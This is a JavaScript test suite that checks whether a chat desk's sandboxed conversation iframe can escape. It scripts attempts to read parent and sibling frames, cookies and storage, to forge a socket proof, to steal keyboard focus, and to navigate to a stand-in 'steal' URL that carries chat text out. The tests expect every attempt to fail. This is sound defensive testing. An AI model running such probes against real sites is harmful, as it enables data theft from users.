// A conversation's frame that is taken over: script runs in it, and still reaches nothing but its own conversation.
import assert from 'node:assert/strict';
import { after, before } from 'node:test';
import { recorded } from './support/at_rest.mjs';
import { openBrowser } from './support/browser.mjs';
import { Agent, Customer, expectEventually } from './support/people.mjs';
import { Server } from './support/server.mjs';
import { test } from './support/story.mjs';

let server;
let browser;
let agent;
const customers = [];

before(async () => {
  server = await Server.start();
  browser = await openBrowser(server);
  agent = await Agent.enrol(browser, server.enrolment);
  await agent.enter();
  await agent.goAvailable();
  for (const words of ['the first has a secret', 'the second has another']) {
    const customer = await Customer.visit(browser, server);
    await customer.open();
    await customer.say(words);
    await agent.acceptNext();
    await agent.frame.getByText(words).waitFor();
    customers.push(customer);
  }
});
after(async () => {
  await browser?.close();
  await server?.dispose();
});

const frames = () => agent.page.frames().filter((frame) => new URL(frame.url()).pathname === '/frame');

/** The frame that shows the second conversation. */
async function inFront() {
  for (const frame of frames())
    if (await frame.evaluate(() => document.body.textContent.includes('the second has another'))) return frame;
  throw new Error('the second conversation is not there');
}

/** The frame in front, which shows the second conversation, and the hidden one. */
async function frontAndHidden() {
  const all = frames();
  assert.equal(all.length, 2);
  const words = await Promise.all(all.map((frame) => frame.evaluate(() => document.body.textContent)));
  const front = words.findIndex((text) => text.includes('the second has another'));
  return { front: all[front], hidden: all[1 - front] };
}

test('it has an opaque origin, no storage, and cannot look at desk or sibling', async () => {
  const { front } = await frontAndHidden();
  const reach = await front.evaluate(async () => {
    const tries = {
      origin: () => self.origin,
      parent: () => parent.document.title,
      sibling: () => parent.frames[[0, 1].find((i) => parent.frames[i] !== self)].document.title,
      localStorage: () => localStorage.length,
      indexedDB: () =>
        new Promise((done, failed) => {
          const request = indexedDB.open('x');
          request.onsuccess = () => done('opened');
          request.onerror = () => failed(request.error);
        }),
      cookie: () => document.cookie,
      popup: () => String(window.open('https://console.test/')),
      top: () => {
        top.location.href = 'https://shop.test/';
        return 'navigated';
      },
      fetch: () => fetch('/v1/site').then(() => 'fetched'),
      beacon: () => navigator.sendBeacon('/v1/report', 'x'),
      desk: () =>
        new Promise((done, failed) => {
          const socket = new WebSocket(`wss://${new URL(location.href).host}/v1/socket/desk`);
          socket.onopen = () => done('connected');
          socket.onerror = () => failed(new Error('refused'));
        }),
    };
    const out = {};
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        out[name] = await attempt();
      } catch (error) {
        out[name] = `refused: ${error.name}`;
      }
    }
    return out;
  });
  assert.equal(reach.origin, 'null');
  assert.equal(reach.popup, 'null');
  for (const name of ['parent', 'sibling', 'localStorage', 'indexedDB', 'cookie', 'top', 'fetch', 'desk'])
    assert.match(String(reach[name]), /^refused/, name);
  assert.equal(agent.page.url(), server.console);
});

test('a socket it opens for itself cannot be proven', async () => {
  const { front } = await frontAndHidden();
  const closed = await front.evaluate(
    () =>
      new Promise((done) => {
        const socket = new WebSocket(`wss://${new URL(location.href).host}/v1/socket/conversation`);
        const zeros = (bytes) => 'A'.repeat(Math.ceil((bytes * 4) / 3));
        socket.onmessage = () =>
          socket.send(
            JSON.stringify({
              t: 'prove',
              conversation: zeros(16),
              ticket: zeros(32),
              key: zeros(32),
              proof: zeros(64),
              after: 0,
            }),
          );
        socket.onclose = (event) => done(event.code);
      }),
  );
  assert.equal(closed, 1008);
});

test('a hidden frame that takes the keyboard is shut, and the keyboard comes back', async () => {
  await agent.page.bringToFront();
  const { hidden } = await frontAndHidden();
  const box = agent.frame.getByRole('textbox').first();
  await box.focus();
  await hidden.evaluate(() => window.focus());
  await expectEventually(() => frames().length === 1, 'the hidden frame is gone');
  await expectEventually(() => box.evaluate((element) => element.ownerDocument.hasFocus()), 'the keyboard is in front');
  await box.press('End');
  await agent.page.keyboard.type('goes where it should');
  assert.equal(await box.inputValue(), 'goes where it should');
  await box.fill('');
});

/** The server's record of what clients refused. */
const reported = (outcome) => recorded(server.data, 'client_report').filter((row) => row.outcome === outcome);

test('the server has that on record, without a word of it', async () => {
  await expectEventually(() => reported('focus_taken').length > 0, 'the theft of the keyboard is on record');
  const [row] = reported('focus_taken');
  assert.notEqual(row.principal, '00'.repeat(32));
  assert.match(row.numbers, /[^0]/, 'the conversation, by a pseudonym');
});

test('when it navigates away, its port is taken back and the room is shut', async () => {
  const front = await inFront();
  await front.evaluate(() => {
    location.href = 'https://shop.test/steal?words=another';
  });
  await agent.page.getByText('This conversation was shut for safety').waitFor();
  await expectEventually(
    () => agent.page.frames().every((frame) => !frame.url().includes('steal')),
    'nothing was carried away',
  );
  await expectEventually(() => reported('frame_left').length === 1, 'it is on record');
  await agent.page.getByRole('button', { name: 'Open it again' }).click();
  await agent.frame.getByText('the second has another').waitFor();
});
